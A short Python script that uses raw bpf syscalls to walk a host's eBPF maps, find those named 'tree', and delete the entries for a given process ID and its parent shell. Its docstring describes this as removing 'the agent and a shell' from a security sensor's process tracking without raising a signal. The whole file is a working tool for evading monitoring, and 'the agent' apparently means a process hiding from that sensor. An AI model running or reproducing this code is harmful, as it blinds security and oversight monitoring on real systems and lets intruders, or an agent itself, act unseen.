"""What root can do to a sensor without a signal: takes the agent and a shell out of each eBPF map named tree.

Map numbers and the calls are those of linux/bpf.h.
"""

from __future__ import annotations

import ctypes
import os
import struct

BPF, DELETE, NEXT_ID, BY_ID, INFO = 321, 3, 12, 14, 15
LIBC = ctypes.CDLL(None, use_errno=True)


def bpf(command: int, attributes: bytes) -> tuple[int, bytes]:
    buffer = ctypes.create_string_buffer(attributes.ljust(128, b"\0"), 128)
    return LIBC.syscall(BPF, command, buffer, 128), buffer.raw


def main(pid: int) -> None:
    number, key = 0, ctypes.create_string_buffer(struct.pack("I", pid), 4)
    info = ctypes.create_string_buffer(128)
    while True:
        failed, told = bpf(NEXT_ID, struct.pack("I", number))
        if failed:
            return
        number = struct.unpack_from("I", told, 4)[0]
        handle, _ = bpf(BY_ID, struct.pack("I", number))
        if handle < 0:
            continue
        bpf(INFO, struct.pack("IIQ", handle, 128, ctypes.addressof(info)))
        if info.raw[24:40].rstrip(b"\0") == b"tree":
            bpf(DELETE, struct.pack("IIQ", handle, 0, ctypes.addressof(key)))
        os.close(handle)


if __name__ == "__main__":
    main(int(os.environ["ROOT"]))
    main(os.getppid())
